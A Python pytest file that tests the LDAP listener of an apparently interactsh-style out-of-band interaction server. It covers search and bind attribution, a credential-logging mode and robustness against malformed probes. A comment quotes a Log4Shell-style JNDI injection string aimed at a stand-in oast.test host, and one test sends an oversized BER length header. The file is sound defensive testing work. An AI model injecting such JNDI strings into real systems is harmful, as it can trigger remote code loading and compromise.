"""The LDAP listener inside the real server process, with the real client and DNS."""

from __future__ import annotations

import socket
import subprocess
from collections.abc import Callable
from pathlib import Path

import dns.message
import dns.query
import interactsh.server
import pytest
from ldap_harness import ReplyStream, present_search, simple_bind
from serverproc import HOST, RunningServer

# The listener runs in the process only once server.py starts it.
LDAP_WIRED = "start_ldap" in Path(interactsh.server.__file__).read_text(encoding="utf-8")
pytestmark = pytest.mark.skipif(not LDAP_WIRED, reason="server.py does not start the LDAP listener yet")


def ldap_exchange(server: RunningServer, data: bytes, replies: int) -> None:
    with socket.create_connection((HOST, server.ports["ldap"]), timeout=5) as sock:
        sock.sendall(data)
        ReplyStream(sock).take(replies)


def test_search_with_id_reaches_client(start_server: Callable[..., RunningServer]) -> None:
    server: RunningServer = start_server()
    client = server.client()
    payload = client.payload(server.domain)
    unique_id = payload.split(".")[0]
    ldap_exchange(server, present_search(1, f"dc={unique_id}", ("cn",)) + simple_bind(2, f"cn={unique_id}"), 3)
    items = client.poll().interactions
    assert [item["raw-request"].partition("\n")[0] for item in items] == ["Type=Search", "Type=Bind"]
    for item in items:
        assert item["protocol"] == "ldap"
        assert item["unique-id"] == unique_id
        assert item["remote-address"].startswith(f"{HOST}:")


def test_jndi_payload_dns_and_unattributed_ldap(start_server: Callable[..., RunningServer]) -> None:
    # ${jndi:ldap://<id>.oast.test/a}: the DNS lookup carries the id, the LDAP search does not.
    server: RunningServer = start_server("-auth")
    client = server.client()
    payload = client.payload(server.domain)
    answer = dns.query.udp(dns.message.make_query(payload, "A"), HOST, port=server.dns_port, timeout=5)
    assert answer.answer
    ldap_exchange(server, simple_bind(1, "") + present_search(2, "a"), 3)
    result = client.poll()
    assert [item["protocol"] for item in result.interactions] == ["dns"]
    searches = [item for item in result.extra if item["raw-request"].startswith("Type=Search\n")]
    assert len(searches) == 1
    assert searches[0]["protocol"] == "ldap"
    assert searches[0]["unique-id"] == ""


def test_full_logging_flag(start_server: Callable[..., RunningServer]) -> None:
    server: RunningServer = start_server("-ldap")
    assert server.token is not None, "-ldap must turn auth on and print a token"
    client = server.client()
    ldap_exchange(server, simple_bind(1, "cn=someone", "pw"), 1)
    extra = client.poll().extra
    assert [item["raw-request"] for item in extra] == [
        "Type=Bind\nAuthenticationChoice=simple\nUser=cn=someone\nPass=pw\n"
    ]


def test_probes_do_not_hurt_process(start_server: Callable[..., RunningServer]) -> None:
    server: RunningServer = start_server()
    port = server.ports["ldap"]
    subprocess.run(
        ["openssl", "s_client", "-connect", f"{HOST}:{port}"],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=30,
        check=False,
    )
    with socket.create_connection((HOST, port), timeout=5) as sock:
        sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
        assert sock.recv(4096) == b""
    with socket.create_connection((HOST, port), timeout=5) as sock:
        sock.sendall(b"\x30\x84\x7f\xff\xff\xff")
        notice = ReplyStream(sock).next()
        assert notice is not None
        assert notice.result_code == 2
    ldap_exchange(server, simple_bind(1, ""), 1)
    assert server.alive()
